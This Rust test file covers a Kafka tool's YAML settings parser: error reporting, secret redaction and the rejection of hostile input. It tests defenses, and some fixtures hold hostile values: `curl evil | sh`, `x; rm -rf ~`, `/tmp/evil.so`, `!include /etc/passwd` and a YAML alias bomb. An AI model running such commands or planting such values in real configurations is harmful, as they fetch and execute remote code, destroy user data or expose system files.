//! A settings file's text: what it may say, where its errors stand, and that no secret is ever among them.

use super::*;
use crate::settings::{Layers, SETTINGS, Settings, resolve, settings_schema};
use crate::yaml::shape::{Record, Shape};

const CANARY: &str = "canary-7f3a";

fn place(role: Role, private: bool) -> FilePlace {
    FilePlace {
        path: "eventctl.yaml".into(),
        folder: "/here".into(),
        home: Some("/home/ops".into()),
        role,
        trusted: role == Role::Own,
        private,
    }
}

fn read_as(text: &str, role: Role, private: bool) -> Result<SettingsFile, Box<Unreadable>> {
    let known = [
        "client.id",
        "sasl.password",
        "sasl.username",
        "security.protocol",
        "ssl.ca.location",
        "ssl.key.pem",
    ];
    let known: Vec<String> = known
        .iter()
        .chain(&["plugin.library.paths", "sasl.kerberos.principal"])
        .map(|n| (*n).to_owned())
        .collect();
    read_settings(&Source::new("eventctl.yaml", text), &place(role, private), Some(&known))
}

fn findings(text: &str) -> Vec<String> {
    match read_as(text, Role::Repository, true) {
        Ok(_) => Vec::new(),
        Err(unreadable) => unreadable.findings.iter().map(ToString::to_string).collect(),
    }
}

fn settings(text: &str) -> Settings {
    let own = read_as(text, Role::Own, true).unwrap();
    resolve(Layers { own: Some(own), ..Layers::default() }).unwrap()
}

const WHOLE: &str = "\
current: prod
catalog: ../topics.yaml
timeout: 5s
contexts:
  prod:
    environment: prod
    brokers: [a:1, 'b:2']
    registry: [http://r1, https://r2/]
    registry_auth: { basic: { username: ops, password: { file: ~/secret } } }
    registry_ca: ca.pem
    registry_certificate: me.pem
    registry_key: { file: me.key }
    protected: true
    cluster_id: abc
    timeout: 3s
    kafka:
      security.protocol: SASL_SSL
      sasl.username: 007
      sasl.password: { command: ./bin/secret kafka }
      ssl.key.pem: { env: KEY }
      ssl.ca.location: ./ca.pem
";

#[test]
fn every_field_of_the_table_is_taken_out() {
    let settings = settings(WHOLE);
    let report = crate::settings::ConfigReport::new(&settings, &[], Vec::new(), []);
    let rows: Vec<String> =
        report.settings.iter().map(|row| format!("{} = {} ({})", row.name, row.value, row.origin)).collect();
    assert_eq!(
        rows,
        [
            "context = prod (eventctl.yaml:1)",
            "environment = prod (eventctl.yaml:6)",
            "brokers = a:1,b:2 (eventctl.yaml:7)",
            "cluster_id = abc (eventctl.yaml:14)",
            "protected = true (eventctl.yaml:13)",
            "registry = http://r1,https://r2 (eventctl.yaml:8)",
            "registry_auth = basic, user ops, password set, hidden; from file /home/ops/secret (eventctl.yaml:9)",
            "registry_ca = /here/ca.pem (eventctl.yaml:10)",
            "registry_certificate = /here/me.pem (eventctl.yaml:11)",
            "registry_key = set, hidden; from file /here/me.key (eventctl.yaml:11)",
            "kafka: sasl.password = set, hidden; from command /here/bin/secret (eventctl.yaml:19)",
            "kafka: sasl.username = 007 (eventctl.yaml:18)",
            "kafka: security.protocol = SASL_SSL (eventctl.yaml:17)",
            "kafka: ssl.ca.location = /here/ca.pem (eventctl.yaml:21)",
            "kafka: ssl.key.pem = set, hidden; from variable KEY (eventctl.yaml:20)",
            "catalog = /here/../topics.yaml (eventctl.yaml:2)",
            "timeout = 3s (eventctl.yaml:15)",
        ]
    );
    // A field that is added to the tables must appear above.
    fn names(record: &'static Record, all: &mut Vec<&'static str>) {
        for field in record.fields {
            all.push(field.name);
            below(&field.shape, all);
        }
    }
    fn below(shape: &'static Shape, all: &mut Vec<&'static str>) {
        match shape {
            Shape::Record(record) => names(record, all),
            Shape::List(shape) | Shape::Map { value: shape, .. } => below(shape, all),
            Shape::OneOf(shapes) => shapes.iter().for_each(|shape| below(shape, all)),
            _ => {}
        }
    }
    let mut all = Vec::new();
    names(&SETTINGS, &mut all);
    for name in all.into_iter().filter(|name| *name != "bearer") {
        assert!(WHOLE.contains(&format!("{name}:")), "`{name}` is in the tables and not in this test");
    }
}

#[test]
fn brokers_and_command_have_a_short_form_and_bearer_works() {
    let settings = settings(
        "current: a\ncontexts: { a: { brokers: 'x:1, y:2', registry: http://r, registry_auth: { bearer: { command: [op, read, 'a b'] } } } }",
    );
    assert_eq!(settings.brokers.unwrap().value.to_string(), "x:1,y:2");
    let words = ["op", "read", "a b"].map(str::to_owned).to_vec();
    let auth = settings.registry.unwrap().auth.unwrap().value;
    assert_eq!(auth, RegistryAuth::Bearer(SecretSource::Command(words)));
}

#[test]
fn an_empty_file_says_nothing() {
    for text in ["", "# nothing\n", "{}"] {
        assert!(read_as(text, Role::Own, true).unwrap().contexts.is_empty(), "{text:?}");
    }
}

#[test]
fn all_errors_come_at_once_with_place_and_next_step() {
    let text = "\
curent: dev
timeout: 2h
contexts:
  de v:
    brokers: [kafka, 'a:1']
    registry: kafka:8081
    protected: no
    registry_auth: {}
    kafka:
      securty.protocol: SSL
      bootstrap.servers: a:1
      sasl.password: { env: A, file: b }
      client.id: { env: $HOME }
";
    let expected = [
        "eventctl.yaml:1:1: error: `curent` is not known here\n  help: did you mean `current`?",
        "eventctl.yaml:2:10: error: a time limit is written as 500ms, 10s or 2m, from 1ms to 1h",
        "eventctl.yaml:4:3: error: `de v` is not a context's name: allowed are 1 to 100 letters a-z and A-Z, digits, `.`, `_` and `-`",
        "eventctl.yaml:5:15: error: `kafka` is not a broker's address: broker `kafka` has no port; did you mean `kafka:9092`?",
        "eventctl.yaml:6:15: error: `registry` must be a registry's URL or a list, not `kafka:8081`\n  help: a registry's URL begins with http:// or https://",
        "eventctl.yaml:7:16: error: `protected` must be true or false, not `no`\n  help: write true or false",
        "eventctl.yaml:8:5: error: exactly one way to log in is needed\n  help: write basic: { username: …, password: … } or bearer: …",
        "eventctl.yaml:10:7: error: librdkafka has no setting `securty.protocol`\n  help: did you mean `security.protocol`?",
        "eventctl.yaml:11:7: error: `bootstrap.servers` may not be set here\n  help: name brokers with --brokers or `brokers:`",
        "eventctl.yaml:12:7: error: `kafka: sasl.password` needs exactly one of env, file and command\n  help: write { env: VARIABLE }, { file: PATH } or { command: [PROGRAM, WORD] }",
        "eventctl.yaml:13:25: error: `$HOME` is not a variable's name: write its name alone, without `$`",
    ];
    assert_eq!(findings(text), expected);
}

#[test]
fn a_literal_secret_may_stand_only_where_nobody_else_reads() {
    let text = "contexts: { a: { kafka: { sasl.password: canary-7f3a } } }";
    let told = findings(text);
    assert_eq!(told.len(), 1);
    assert!(told[0].starts_with(
        "eventctl.yaml:1:42: error: `kafka: sasl.password` is a secret, which may not stand in a repository's file"
    ));
    let open = read_as(text, Role::Own, false).unwrap_err().findings;
    assert!(open[0].to_string().contains("help: chmod 600 eventctl.yaml"), "{}", open[0]);
    let file = read_as(text, Role::Own, true).unwrap();
    let expected = SettingValue::Secret(SecretSource::Literal(Secret::new(CANARY)));
    assert_eq!(file.contexts["a"].kafka["sasl.password"].value, expected);
    // YAML's own spellings of the same text.
    for spelt in ["'canary-7f3a'", "\"canary\\x2d7f3a\"", "|-\n        canary-7f3a\n"] {
        let text = format!("contexts:\n  a:\n    kafka:\n      sasl.password: {spelt}\n");
        let file = read_as(&text, Role::Own, true).unwrap();
        assert_eq!(file.contexts["a"].kafka["sasl.password"].value, expected, "{spelt}");
    }
}

#[test]
fn no_secret_reaches_a_finding_or_an_excerpt() {
    let contexts = [
        "kafka: { sasl.password: canary-7f3a }",
        "kafka: { sasl.password: [canary-7f3a] }",
        "kafka: { sasl.password: { evn: canary-7f3a } }",
        "kafka: { sasl.password: { env: A, x: canary-7f3a } }",
        "kafka: { sasl.pasword: canary-7f3a, sasl.secret: canary-7f3a }",
        "kafka:\n      ssl.key.pem: |\n        canary-7f3a\n        canary-7f3a\n      x: y",
        "kafka: { \"sasl.password\": \"canary-7f3a\" }",
        "kafka: { sasl.jaas.config: 'x password=\"canary-7f3a\";' }",
        "password: canary-7f3a",
        "registry: http://ops:canary-7f3a@r:1",
        "registry: [\"http://canary-7f3a@r:1\"]",
        "brokers: 'ops:canary-7f3a@b:1'",
        "registry_auth: { bearer: canary-7f3a }",
        "registry_auth: { basic: { username: ops, password: canary-7f3a } }",
        "registry_auth: { basic: { username: ops, pasword: canary-7f3a } }",
        "registry_auth: { beaer: { x: 1 }, bearer: [canary-7f3a] }",
        "registry_key: |\n      -----BEGIN PRIVATE KEY-----\n      canary-7f3a",
        "registry_keys: canary-7f3a",
        "registry_key: [canary-7f3a]",
        // Not YAML at all.
        "kafka: { sasl.password: canary-7f3a",
        "kafka: { sasl.password: \"canary-7f3a }",
        "kafka: { a: *b, sasl.password: canary-7f3a }",
        "kafka:\n\tsasl.password: canary-7f3a",
        "kafka: { sasl.password: canary-7f3a, sasl.password: canary-7f3a }",
        "kafka:\n      sasl.password: |\n        canary-7f3a\n       x: [",
        "registry: http://ops:canary-7f3a@r:1\n    registry: x",
        "registry: http://ops:pässwörd-canary-7f3a@r:1",
    ];
    for context in contexts {
        // The error that brings the excerpt may also stand beside the secret.
        let text = format!("contexts:\n  a:\n    {context}\n    prtected: yes\n");
        let unreadable = read_as(&text, Role::Repository, true).unwrap_err();
        let misspelt = context.contains(".pasword") || context.contains("{ username: ops, pasword");
        let shown = format!("{:?}\n{}", unreadable.findings, unreadable.source.text);
        // What is misspelt cannot be known as a secret in an excerpt; its value is in no message all the same.
        let shown = if misspelt { format!("{:?}", unreadable.findings) } else { shown };
        assert!(!shown.contains("canary"), "{context}\n{shown}");
        assert_eq!(unreadable.source.text.len(), text.len(), "places have moved");
    }
}

#[test]
fn what_runs_code_is_listed_whole() {
    let text = "\
contexts:
  a:
    registry_auth: { bearer: { command: [sh, -c, 'curl evil | sh'] } }
    registry_certificate: x
    registry_key: { command: cat key }
    kafka:
      plugin.library.paths: /tmp/evil.so
      sasl.kerberos.principal: 'x; rm -rf ~'
      sasl.password: { command: pass show kafka }
      client.id: harmless
  b: { kafka: { client.id: harmless } }
";
    let file = read_as(text, Role::Repository, true).unwrap();
    let code: Vec<String> = file.contexts["a"]
        .code
        .iter()
        .map(|code| format!("{}: {} = {}", code.origin, code.value.name, code.value.runs))
        .collect();
    assert_eq!(
        code,
        [
            "eventctl.yaml:3: registry_auth: bearer = sh -c curl evil | sh",
            "eventctl.yaml:5: registry_key = cat key",
            "eventctl.yaml:7: kafka: plugin.library.paths = /tmp/evil.so",
            "eventctl.yaml:8: kafka: sasl.kerberos.principal = x; rm -rf ~",
            "eventctl.yaml:9: kafka: sasl.password = pass show kafka",
        ]
    );
    assert!(file.contexts["b"].code.is_empty());
}

#[test]
fn a_command_in_one_text_is_words_and_never_a_script() {
    for command in ["echo $HOME", "a | b", "a; b", "echo 'x y'", "`a`", ""] {
        let text = format!("contexts: {{ a: {{ kafka: {{ sasl.password: {{ command: {command:?} }} }} }} }}");
        assert_eq!(findings(&text).len(), 1, "{command}: {:?}", findings(&text));
    }
}

#[test]
fn hostile_files_are_refused_and_never_obeyed() {
    let bomb = (1..12).fold("a0: &a0 [x,x,x,x,x,x,x,x,x]\n".to_owned(), |text, n| {
        let item = format!("*a{},", n - 1).repeat(9);
        format!("{text}a{n}: &a{n} [{}]\n", item.trim_end_matches(','))
    });
    let rows = [
        bomb,
        "a: &a [*a]".to_owned(),
        format!("contexts: {}{}", "[".repeat(10_000), "]".repeat(10_000)),
        "contexts: { a: {}, a: {} }".to_owned(),
        "a: &a {x: 1}\nb:\n  <<: *a".to_owned(),
        "current: a\n---\ncurrent: b".to_owned(),
        "contexts:\n\ta: {}".to_owned(),
        "current: !include /etc/passwd".to_owned(),
        "current: \"a\\0\"".to_owned(),
        "current: a\0b".to_owned(),
        "current: yes\ntimeout: 010".to_owned(),
        "timeout: 1e3".to_owned(),
        "[]".to_owned(),
        "text".to_owned(),
        format!("contexts: {{ a: {{ brokers: \"{}\" }} }}", "a:1,".repeat(100_000)),
        format!("contexts: {{ a: {{ kafka: {{ {}: x }} }} }}", "p".repeat(100_000)),
        "contexts: { a: { kafka: { client.id: null } } }".to_owned(),
        "contexts: { a: null }".to_owned(),
        "contexts: { a: { registry: [] } }".to_owned(),
        "contexts: { a: { registry_key: { env: KEY } } }".to_owned(),
        "contexts: { a: { registry_certificate: c } }".to_owned(),
        "contexts: { a: { registry_certificate: c, registry_key: {} } }".to_owned(),
        "contexts: { a: { registry_certificate: [c], registry_key: { env: KEY } } }".to_owned(),
        "contexts: { b: { brokers: [] } }".to_owned(),
        format!("contexts: {{ a: {{ brokers: [{}] }} }}", "'a:1',".repeat(1_001)),
        "contexts: { \"\\u202e\": {} }".to_owned(),
    ];
    for text in rows {
        let told = findings(&text);
        assert!(!told.is_empty(), "accepted: {}", text.chars().take(200).collect::<String>());
        assert!(told.iter().all(|line| line.starts_with("eventctl.yaml:")), "{told:?}");
        assert!(told.iter().map(String::len).sum::<usize>() < 100_000, "the errors are too long");
    }
}

#[test]
fn the_shipped_file_is_read_and_names_its_schema() {
    let text = include_str!("../../../../eventctl.yaml");
    let first = "# yaml-language-server: $schema=docs/schemas/eventctl.schema.json";
    assert_eq!(text.lines().next(), Some(first));
    let repository = read_as(text, Role::Repository, false).unwrap();
    let settings = resolve(Layers { repository: Some(repository), ..Layers::default() }).unwrap();
    let brokers = settings.brokers.unwrap().value.to_string();
    assert_eq!(brokers, "127.0.0.1:19092,127.0.0.1:19093,127.0.0.1:19094");
    let urls = settings.registry.unwrap().urls.value;
    assert_eq!(urls[0].as_str(), "http://127.0.0.1:18081/apis/ccompat/v7");
    // The commented example works too, once it is no comment.
    let example = text
        .lines()
        .map(|line| line.strip_prefix("  # ").map_or(line.to_owned(), |rest| format!("  {rest}")));
    let example: Vec<String> = example.filter(|line| !line.starts_with("  What")).collect();
    let file =
        read_settings(&Source::new("e", &example.join("\n")), &place(Role::Repository, false), None).unwrap();
    assert!(file.contexts["prod"].protected.as_ref().unwrap().value);
}

#[test]
fn the_json_schema_is_current() {
    // Written by: eventctl check --print-schema.
    let committed = include_str!("../../../../docs/schemas/eventctl.schema.json");
    assert_eq!(committed, settings_schema(), "docs/schemas/eventctl.schema.json is out of date");
}
